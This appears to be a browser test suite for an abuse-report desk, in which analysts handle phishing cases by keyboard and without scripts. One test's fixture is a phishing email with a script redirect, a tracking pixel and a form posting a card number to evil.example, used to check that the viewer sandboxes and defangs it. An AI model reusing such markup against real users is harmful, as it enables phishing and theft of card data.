// The work of an analyst in Chromium, once with the keyboard alone and once without scripts.
import assert from 'node:assert/strict'
import { after, test } from 'node:test'
import type { Browser, Page } from 'playwright-core'
import { listAudit } from '#server/desk/audit/store.ts'
import { launchChromium } from '#test/support/browser/chromium.ts'
import { landing } from '#test/support/browser/hands.ts'
import { untilJudged, useAbusePortal } from '#test/support/desk/abuse.ts'
import { caseOf, reportLetter } from '#test/support/desk/cases.ts'
import { authenticatorCode, giveRole, readSecret } from '#test/support/desk/staff.ts'
import { accountIdOf, register } from '#test/support/people.ts'

const alena = { login: 'alena.analyst', password: 'forty reports before lunch' }
const senders = Array.from({ length: 10 }, (_, at) => `sender.${'abcdefghij'[at]}`)
const isPhisher = (login: string) => /[acegi]$/.test(login)

let browser: Browser
const portal = useAbusePortal({}, async (portal) => {
  browser = await launchChromium()
  await register(portal, alena)
  await giveRole(portal, alena.login, 'analyst')
  for (const login of senders) {
    await register(portal, { login, password: 'forty storks over the marsh' })
    const accountId = await accountIdOf(portal, login)
    await reportLetter(portal, { accountId, login, kind: isPhisher(login) ? 'phishing' : 'other' })
  }
  await untilJudged(portal)
})
after(() => browser?.close())

/** Presses Tab until the element has the focus. */
async function tabTo(page: Page, name: string): Promise<void> {
  for (let presses = 0; presses < 80; presses += 1) {
    const here = await page.evaluate(
      `document.activeElement === document.body
        ? ''
        : '#' + document.activeElement.id + ' ' + document.activeElement.textContent`,
    )
    if (String(here).includes(name)) return
    await page.keyboard.press('Tab')
  }
  assert.fail(`the keyboard does not reach "${name}"`)
}

const pressAndWait = (page: Page, key: string) =>
  landing(page, undefined, () => page.keyboard.press(key))

async function choose(page: Page, downs: number): Promise<void> {
  for (let press = 0; press < downs; press += 1) await page.keyboard.press('ArrowDown')
}

const pageId = (page: Page) => page.locator('main').getAttribute('data-page')

async function goThroughTheDoor(page: Page): Promise<void> {
  await page.goto(`${portal.url}/staff`)
  await tabTo(page, '#login ')
  await page.keyboard.type(alena.login)
  await tabTo(page, '#password ')
  await page.keyboard.type(alena.password)
  await pressAndWait(page, 'Enter')
  assert.equal(await pageId(page), 'staff-enrol')
  const secret = readSecret(await page.content())
  await tabTo(page, '#code ')
  await page.keyboard.type(authenticatorCode(portal, secret))
  await pressAndWait(page, 'Enter')
  assert.equal(await pageId(page), 'staff-codes')
  await tabTo(page, 'I have kept them')
  await pressAndWait(page, 'Enter')
  assert.equal(await pageId(page), 'staff-queue')
}

async function handleCase(page: Page): Promise<void> {
  await page.keyboard.press('j')
  await pressAndWait(page, 'Enter')
  assert.equal(await pageId(page), 'staff-case')
  await pressAndWait(page, 'c')
  assert.match((await page.locator('main').textContent()) ?? '', /The case is yours now/)
  const phishing = /phishing/.test((await page.locator('.letter').textContent()) ?? '')
  if (phishing) {
    await page.keyboard.press('m')
    // Suspends sending because of phishing for the suggested seven days.
    await choose(page, 3)
    await page.keyboard.press('Tab')
    await choose(page, 2)
    await tabTo(page, 'Show the consequences')
    await pressAndWait(page, 'Enter')
    assert.equal(await pageId(page), 'staff-measure')
    assert.match((await page.locator('main').textContent()) ?? '', /Sending stops at once/)
    await tabTo(page, 'Take the measure')
    await pressAndWait(page, 'Enter')
    assert.match((await page.locator('main').textContent()) ?? '', /The measure is in force/)
  }
  await page.keyboard.press('x')
  await choose(page, phishing ? 1 : 2)
  await tabTo(page, 'Close the case')
  await pressAndWait(page, 'Enter')
  assert.match((await page.locator('main').textContent()) ?? '', /The case is closed/)
  await pressAndWait(page, 'u')
}

/** `g` and a letter for each page of the menu, and single keys. */
async function everyKeyOpensItsPage(page: Page): Promise<void> {
  const keys = await page
    .locator('a[data-key]')
    .evaluateAll((links) =>
      links.map((link) => [link.getAttribute('data-key') ?? '', link.getAttribute('href') ?? '']),
    )
  const menu = keys.filter(([key = '', href = '']) => /^(?:g .|[?/])$/.test(key) && href !== '')
  assert.ok(menu.length > 2, `${menu.length} keys`)
  for (const [key = '', href] of menu) {
    if (key.startsWith('g ')) await page.keyboard.press('g')
    await pressAndWait(page, key.at(-1) ?? '')
    assert.equal(new URL(page.url()).pathname, href, key)
  }
}

test('a new analyst handles ten cases by keyboard alone', async () => {
  const context = await browser.newContext({
    locale: 'en-GB',
    viewport: { width: 1280, height: 800 },
  })
  const page = await context.newPage()
  const complaints: string[] = []
  page.on('console', (message) => complaints.push(message.text()))
  page.on('pageerror', (fault) => complaints.push(fault.message))
  await goThroughTheDoor(page)
  for (const _login of senders) await handleCase(page)
  assert.match((await page.locator('main').textContent()) ?? '', /Nothing waits here/)

  const cases = await portal.db('abuse_cases').select('account_id', 'outcome', 'first_seen_at')
  assert.equal(cases.length, 10)
  const measures = await portal
    .db('measures')
    .where({ state: 'in-force' })
    .select('account_id', 'measure', 'cause')
  const phishers = await Promise.all(
    senders.filter(isPhisher).map((login) => accountIdOf(portal, login)),
  )
  assert.deepEqual(measures.map((row) => row.account_id).sort(), phishers.sort())
  assert.deepEqual(
    [...new Set(measures.map((row) => `${row.measure} ${row.cause}`))],
    ['suspend-sending phishing'],
  )
  for (const { account_id, outcome } of cases)
    assert.equal(outcome, phishers.includes(account_id) ? 'measure-taken' : 'no-breach')
  const staffId = await accountIdOf(portal, alena.login)
  const audited = (await listAudit(portal.db, { staffId }, 500)).map(({ action }) => action)
  for (const action of ['case.claimed', 'case.closed'] as const)
    assert.equal(audited.filter((each) => each === action).length, 10, action)
  assert.ok(audited.filter((each) => each === 'evidence.viewed').length >= 10)
  assert.deepEqual(complaints, [])

  await everyKeyOpensItsPage(page)
  await context.close()
})

test('a letter in HTML stays in a frame that runs, fetches and sends nothing', async () => {
  const accountId = await accountIdOf(portal, 'sender.b')
  const source = [
    'From: Bank <sender.b@postern.example>',
    'Subject: =?utf-8?q?Open_it?=',
    'Content-Type: text/html; charset=utf-8',
    '',
    '<h1>Dear customer</h1><script>top.location="https://evil.example/"</script>',
    '<img src="https://evil.example/pixel.png"><a href="https://evil.example/go">Go on</a>',
    '<form action="https://evil.example/take"><input name="card"></form>',
  ].join('\r\n')
  await reportLetter(portal, { accountId, login: 'sender.b', source })
  await untilJudged(portal)
  const row = await portal.db('abuse_cases').whereNull('closed_at').first('id')
  const context = await browser.newContext({ locale: 'en-GB' })
  const page = await context.newPage()
  const asked: string[] = []
  page.on(
    'request',
    (request) => void (request.url().startsWith(portal.url) || asked.push(request.url())),
  )
  const complaints: string[] = []
  page.on('console', (message) => complaints.push(message.text()))
  await page.goto(`${portal.url}/sign-in`)
  await page.locator('#login').fill(alena.login)
  await page.locator('#password').fill(alena.password)
  await page.keyboard.press('Enter')
  await page.waitForURL(/account$/)
  const factor = await portal.db('staff_factors').first('secret_sealed')
  portal.clock.advance(31_000)
  const secret = portal.keyring.open('staff.factor', factor.secret_sealed)
  await page.goto(`${portal.url}/staff/cases/${row.id}?look=html`)
  await page.locator('#code').fill(authenticatorCode(portal, secret))
  await page.keyboard.press('Enter')
  const frame = page.frameLocator('iframe')
  assert.equal(await frame.locator('h1').textContent(), 'Dear customer')
  assert.equal(await frame.locator('script, img, a[href], form, input').count(), 0)
  assert.match(
    (await page.locator('.letter').textContent()) ?? '',
    /hxxps:\/\/evil\[\.\]example\/go/,
  )
  assert.equal(await page.locator('iframe').getAttribute('sandbox'), '')
  assert.deepEqual([asked.filter((url) => !/^(data|about):/.test(url)), complaints], [[], []])
  await context.close()
})

test('without scripts the same is done by links and buttons', async () => {
  const accountId = await accountIdOf(portal, 'sender.d')
  await reportLetter(portal, { accountId, login: 'sender.d', kind: 'spam' })
  const caseId = await caseOf(portal, accountId)
  const context = await browser.newContext({ javaScriptEnabled: false, locale: 'en-GB' })
  const page = await context.newPage()
  portal.clock.advance(31_000)
  const factor = await portal.db('staff_factors').first('secret_sealed')
  const secret = portal.keyring.open('staff.factor', factor.secret_sealed)
  await page.goto(`${portal.url}/staff/cases`)
  await page.locator('#login').fill(alena.login)
  await page.locator('#password').fill(alena.password)
  await page.keyboard.press('Enter')
  await page.locator('#code').fill(authenticatorCode(portal, secret))
  await page.keyboard.press('Enter')
  await page.getByRole('link', { name: `${caseId} sender.d@postern.example` }).click()
  await page.getByRole('button', { name: 'Claim the case' }).click()
  await page.getByLabel('Measure').selectOption('limit-sending')
  await page.getByLabel('Reason').selectOption('spam')
  await page.getByRole('button', { name: 'Show the consequences' }).click()
  await page.getByRole('button', { name: 'Take the measure' }).click()
  await page
    .locator('main')
    .getByText(/sending is limited/)
    .first()
    .waitFor()
  await page.getByRole('link', { name: /Lift the measure/ }).click()
  await page.getByRole('button', { name: 'Lift the measure' }).click()
  await page
    .locator('main')
    .getByText(/The measure was lifted/)
    .first()
    .waitFor()
  await context.close()
})
